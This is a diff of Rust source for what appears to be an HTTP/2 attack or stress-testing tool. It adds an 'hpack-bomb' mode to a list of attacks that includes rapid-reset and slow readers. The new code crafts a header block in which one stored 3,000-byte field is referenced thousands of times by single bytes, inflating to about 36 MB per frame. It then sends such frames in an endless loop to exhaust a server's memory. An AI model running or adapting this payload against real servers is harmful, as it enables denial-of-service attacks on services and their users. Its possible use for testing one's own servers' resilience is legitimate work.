@@ -7,12 +7,13 @@ use tokio::time::{Instant, timeout, timeout_at};
 
 use super::attacks::{Done, PAUSE, Stream, send, sip};
 
-pub const KINDS: [&str; 16] = [
+pub const KINDS: [&str; 17] = [
     "handshakes",
     "slow-heads-h2",
     "slow-bodies-h2",
     "slow-readers-h2",
     "large-heads-h2",
+    "hpack-bomb",
     "too-many-streams",
     "rapid-reset",
     "paced-reset",
@@ -120,6 +121,20 @@ pub async fn once(
         "large-heads-h2" => {
             let mut block = get("/1k");
             (0..36).for_each(|number| block.extend(field(&format!("x-{number}"), 1_000)));
+            send(stream, &wide(1 << 24), done).await?;
+            for number in 0.. {
+                send(stream, &head(2 * number + 1, &block), done).await?;
+                while !blank && ear.hear(stream, LIVES, done).await?.is_empty() {}
+            }
+            Ok(())
+        }
+        "hpack-bomb" => {
+            // One field that is kept, and then named over and over by a byte each: 36 MB in a frame.
+            let mut block = get("/1k");
+            let kept = field("x", 3_000);
+            block.push(0x40);
+            block.extend(&kept[1..]);
+            block.resize(block.len() + 12_000, 0x80 | 62);
             send(stream, &wide(1 << 24), done).await?;
             for number in 0.. {
                 send(stream, &head(2 * number + 1, &block), done).await?;
